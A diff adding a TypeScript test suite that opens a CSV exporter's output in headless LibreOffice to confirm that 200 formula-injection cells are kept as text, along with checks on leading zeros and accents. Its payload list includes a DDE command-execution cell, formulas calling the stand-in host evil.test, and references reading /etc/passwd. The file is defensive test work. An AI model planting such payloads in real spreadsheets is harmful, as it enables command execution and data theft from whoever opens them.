@@ -1,0 +1,88 @@
+import assert from 'node:assert/strict'
+import { spawnSync } from 'node:child_process'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { after, test } from 'node:test'
+import { type Cell, type Separator, spreadsheetSeparator, toCsv } from '#core/contract/csv.ts'
+import { locales } from '#core/contract/locale.ts'
+
+const folder = mkdtempSync(join(tmpdir(), 'comptoir-office-'))
+after(() => rmSync(folder, { recursive: true }))
+
+/** What LibreOffice makes of a file: each cell with the value and the formula that it took it for. */
+function opened(rows: readonly (readonly Cell[])[], separator: Separator): string {
+  writeFileSync(join(folder, 'file.csv'), toCsv(rows, separator))
+  // Separator, quote, UTF-8, from the first line, in English; what is quoted is a text.
+  const filter = `CSV:${separator.charCodeAt(0)},34,76,1,,1033,true,true,false`
+  const { status, stderr } = spawnSync(
+    'soffice',
+    [
+      `-env:UserInstallation=file://${folder}/profile`,
+      '--headless',
+      `--infilter=${filter}`,
+      '--convert-to',
+      'fods',
+      '--outdir',
+      folder,
+      join(folder, 'file.csv'),
+    ],
+    { encoding: 'utf8', timeout: 120_000 },
+  )
+  assert.equal(status, 0, stderr)
+  return readFileSync(join(folder, 'file.fods'), 'utf8')
+}
+
+const dangerous = ['=', '+', '-', '@', '\t=', '\r=', "'=", '=\n', '"=', ' =']
+const payloads = [
+  '1+1',
+  'SUM(1,1)',
+  'HYPERLINK("http://evil.test","x")',
+  'WEBSERVICE("http://evil.test")',
+  "cmd|'/c calc'!A0",
+  'DDE("soffice";"/etc/passwd";"x")',
+  "'file:///etc/passwd'#$x.A1",
+  'IMPORTXML("http://evil.test","//a")',
+  'RAND()',
+  '@SUM(A1:A2)',
+  '1;=1+1',
+  '1,=1+1',
+  '1\n=1+1',
+  '1\r\n=1+1',
+  '"",=1+1,""',
+  'é’œ',
+  '$A$1',
+  '1E5',
+  'TODAY()',
+  'INFO("system")',
+]
+/** Two hundred of them. */
+const hostile = dangerous.flatMap((start) => payloads.map((payload) => start + payload))
+
+for (const locale of locales) {
+  const separator = spreadsheetSeparator(locale)
+
+  test(`H147: LibreOffice runs none of 200 hostile cells (${locale})`, () => {
+    assert.equal(hostile.length, 200)
+    const sheet = opened(
+      hostile.map((cell) => ['before', cell, 'after']),
+      separator,
+    )
+    assert.doesNotMatch(sheet, /table:formula=/)
+    assert.equal(sheet.match(/<text:p>before<\/text:p>/g)?.length, 200)
+    assert.equal(sheet.match(/<text:p>after<\/text:p>/g)?.length, 200, 'no cell spills into another')
+  })
+
+  test(`the leading zeros of a Sold To are kept, and numbers are numbers (${locale})`, () => {
+    const sheet = opened([['00123', '0', 12.5]], separator)
+    assert.ok(sheet.includes('<text:p>00123</text:p>'))
+    assert.doesNotMatch(sheet, /office:value="123"/)
+    assert.match(sheet, /office:value="12.5"/)
+  })
+
+  test(`accents are read as they were written (${locale})`, () => {
+    const sheet = opened([['Prénom', 'Œuvre d’été', 'Ça, là; «\u00a0ô\u00a0»']], separator)
+    for (const text of ['Prénom', 'Œuvre d’été', 'Ça, là; «\u00a0ô\u00a0»'])
+      assert.ok(sheet.includes(`<text:p>${text}</text:p>`), text)
+  })
+}
